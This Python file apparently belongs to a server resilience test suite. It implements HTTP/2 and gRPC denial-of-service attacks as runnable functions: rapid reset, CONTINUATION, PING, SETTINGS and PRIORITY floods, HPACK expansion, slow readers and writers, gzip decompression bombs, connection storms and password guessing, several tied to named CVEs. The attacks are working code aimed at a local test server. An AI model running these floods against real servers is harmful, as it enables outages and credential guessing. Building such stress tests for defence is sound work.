"""Attacks on the network front, one a run: attacks.py NAME."""
import functools
import gzip
import struct
import sys
import time

import http2
from http2 import END_HEADERS, END_STREAM, frame
from measure import MIB, run_attack

STREAMS = 100
HUGE_WINDOW = (1 << 31) - 1 - 65535
NAMES = {}


def attack(ledgers=0):
    def register(function):
        NAMES[function.__name__] = functools.partial(run_attack, function.__name__, function,
                                                     ledgers)
        return function
    return register


def send(sock, data):
    """False if the server has closed, or does not take it within a second."""
    try:
        sock.sendall(data)
        return True
    except OSError:
        return False


def drain(sock):
    try:
        sock.setblocking(False)
        while sock.recv(1 << 16):
            pass
    except OSError:
        pass
    finally:
        sock.settimeout(1.0)


def flood(target, frames, head=b"", reads=False):
    """Connects, sends `head`, then `frames` until it is cut off, and again."""
    while target.going_on():
        sock = target.connect()
        if sock is None:
            continue
        if send(sock, http2.preface() + head):
            while target.going_on() and send(sock, frames):
                if reads:
                    drain(sock)
        sock.close()


def open_call(stream, method="Health", token=None, more=()):
    return frame(http2.HEADERS, END_HEADERS, stream, http2.call_fields(method, token, more))


@attack()
def rapid_reset(target):
    """Calls that are reset as soon as they have begun (CVE-2023-44487)."""
    calls = b"".join(
        http2.call(stream, "Health") + frame(http2.RST_STREAM, 0, stream, b"\0\0\0\x08")
        for stream in range(1, 6001, 2))
    flood_once(target, calls)


@attack()
def rapid_reset_of_reads(target):
    """The same with calls of a logged-in client, which other threads work on."""
    calls = b"".join(
        http2.call(stream, "Get", http2.key_only(b"large"), target.token) +
        frame(http2.RST_STREAM, 0, stream, b"\0\0\0\x08") for stream in range(1, 6001, 2))
    flood_once(target, calls)


def flood_once(target, frames):
    while target.going_on():
        sock = target.connect()
        if sock is None:
            continue
        send(sock, http2.preface() + frames)
        sock.close()


@attack()
def continuation_flood(target):
    """Headers that never end (CVE-2024-27316)."""
    part = frame(http2.CONTINUATION, 0, 1, http2.field("a", "b" * 100)) * 100
    flood(target, part, frame(http2.HEADERS, 0, 1, http2.call_fields("Health")))


@attack()
def ping_flood(target):
    """PINGs whose answers are not read (CVE-2019-9512)."""
    flood(target, frame(http2.PING, 0, 0, b"12345678") * 500)


@attack()
def ping_flood_read(target):
    """PINGs whose answers are read."""
    flood(target, frame(http2.PING, 0, 0, b"12345678") * 500, reads=True)


@attack()
def settings_flood(target):
    """SETTINGS whose acknowledgements are read (CVE-2019-9515)."""
    flood(target, http2.settings() * 500, reads=True)


@attack()
def priority_flood(target):
    """PRIORITY frames for streams that don't exist (CVE-2019-9513)."""
    flood(target, frame(http2.PRIORITY, 0, 5, struct.pack(">IB", 3, 7)) * 500)


@attack()
def empty_data_flood(target):
    """DATA frames without data (CVE-2019-9518)."""
    flood(target, frame(http2.DATA, 0, 1) * 500, open_call(1))


@attack()
def window_update_flood(target):
    """WINDOW_UPDATE frames of one byte."""
    flood(target, frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 500)


@attack()
def hpack_expansion(target):
    """A field of 4 KB in the dynamic table, named by one byte again and again."""
    seed = frame(http2.HEADERS, END_HEADERS | END_STREAM, 1, http2.call_fields("Health") +
                 http2.field("x", "v" * 4000, b"\x40"))
    blocks = b"".join(
        frame(http2.HEADERS, END_HEADERS | END_STREAM, stream,
              http2.call_fields("Health") + b"\xbe" * 15000) for stream in range(3, 200, 2))
    while target.going_on():
        sock = target.connect()
        if sock is not None:
            send(sock, http2.preface() + seed + blocks)
            sock.close()


@attack(ledgers=1)
def half_open_streams(target):
    """Ten thousand calls with 2 KB of a request that does not go on."""
    part = http2.message(b"x" * 8000)[:2000]
    calls = b"".join(open_call(stream) + frame(http2.DATA, 0, stream, part)
                     for stream in range(1, 2 * STREAMS, 2))
    return hold(target, http2.preface() + calls, connections=100)


@attack(ledgers=1)
def large_metadata(target):
    """Calls that are not sent, with all the metadata that a call may have."""
    call = [open_call(stream, more=[("x", "v" * 15000)]) for stream in range(1, 2 * STREAMS, 2)]
    return hold(target, http2.preface() + b"".join(call), connections=100)


def hold(target, data, connections, feed=b""):
    """Keeps `connections` open that have sent `data`, and sends `feed` on each now and then."""
    held = []
    while target.going_on():
        if len(held) < connections:
            sock = target.connect()
            if sock is not None and send(sock, data):
                held.append(sock)
            continue
        time.sleep(0.05)
        if feed:
            held = [sock for sock in held if send(sock, feed)]
    return held


@attack(ledgers=2)
def slow_writers(target):
    """Logged-in clients that claim requests of 4 MiB and send a byte now and then."""
    part = http2.message(b"x" * (4 * MIB - 64))[:40000]
    calls = b"".join(
        open_call(stream, "Set", target.token) + http2.data_frames(stream, part, end=False)
        for stream in range(1, 2 * STREAMS, 2))
    more = b"".join(frame(http2.DATA, 0, stream, b"x") for stream in range(1, 2 * STREAMS, 2))
    return hold(target, http2.preface() + calls, connections=20, feed=more)


@attack(ledgers=2)
def slow_readers(target):
    """Twenty connections that ask a hundred times for 4 MiB each and read nothing."""
    calls = b"".join(http2.call(stream, "Get", http2.key_only(b"large"), target.token)
                     for stream in range(1, 2 * STREAMS, 2))
    opening = http2.preface([(http2.INITIAL_WINDOW_SIZE, (1 << 31) - 1)], HUGE_WINDOW)
    return hold(target, opening + calls, connections=20)


@attack(ledgers=2)
def window_zero(target):
    """The same with a window of nothing, so that no reply can even begin to go out."""
    calls = b"".join(http2.call(stream, "Get", http2.key_only(b"large"), target.token)
                     for stream in range(1, 2 * STREAMS, 2))
    return hold(target, http2.preface([(http2.INITIAL_WINDOW_SIZE, 0)]) + calls, connections=20)


@attack()
def bombs_of_strangers(target):
    """Compressed requests of a few KB that would expand to 4 MiB, without a token."""
    packed = gzip.compress(b"x" * (4 * MIB - 64))
    bombs = b"".join(
        http2.call(stream, "Set", packed, more=[("grpc-encoding", "gzip")], flags=1)
        for stream in range(1, 2 * STREAMS, 2))
    flood_once(target, bombs)


@attack(ledgers=1)
def bombs_of_users(target):
    """The same with one."""
    packed = gzip.compress(b"x" * (4 * MIB - 64))
    bombs = b"".join(
        http2.call(stream, "Set", packed, target.token, [("grpc-encoding", "gzip")], 1)
        for stream in range(1, 2 * STREAMS, 2))
    while target.going_on():
        sock = target.connect()
        if sock is not None:
            send(sock, http2.preface() + bombs)
            time.sleep(0.05)
            sock.close()


@attack()
def connection_storm(target):
    """Connections that say nothing, as fast as they come."""
    while target.going_on():
        sock = target.connect()
        if sock is not None:
            sock.close()


@attack()
def idle_connections(target):
    """A thousand connections that have said hello and then nothing."""
    return hold(target, http2.preface(), connections=1000)


@attack()
def guessed_passwords(target):
    """Logins of many users with wrong passwords."""
    def login(stream, user):
        return http2.call(stream, "Login", b"\x0a" + bytes([len(user)]) + user + b"\x12\x05wrong")
    names = [f"user{i}".encode() for i in range(STREAMS)]
    calls = b"".join(login(2 * i + 1, name) for i, name in enumerate(names))
    while target.going_on():
        sock = target.connect()
        if sock is not None:
            send(sock, http2.preface() + calls)
            time.sleep(0.1)
            sock.close()
    # From the guesser's own address the right password opens within a bounded time.
    began = time.monotonic()
    while True:
        client = http2.Client(target.port, http2.ATTACKER_ADDRESS)
        try:
            client.login()
            break
        except http2.Failed:
            assert time.monotonic() - began < 30, "an honest user is kept out"
            time.sleep(0.5)
        finally:
            client.close()
    print(f"the right password opened after {time.monotonic() - began:.1f} s", flush=True)


if __name__ == "__main__":
    from server import run
    chosen = NAMES.get(sys.argv[1] if len(sys.argv) > 1 else "")
    if chosen is None:
        sys.exit(f"usage: attacks.py NAME [--bin FOLDER]; NAME: {' '.join(NAMES)}")
    del sys.argv[1]
    run(chosen)
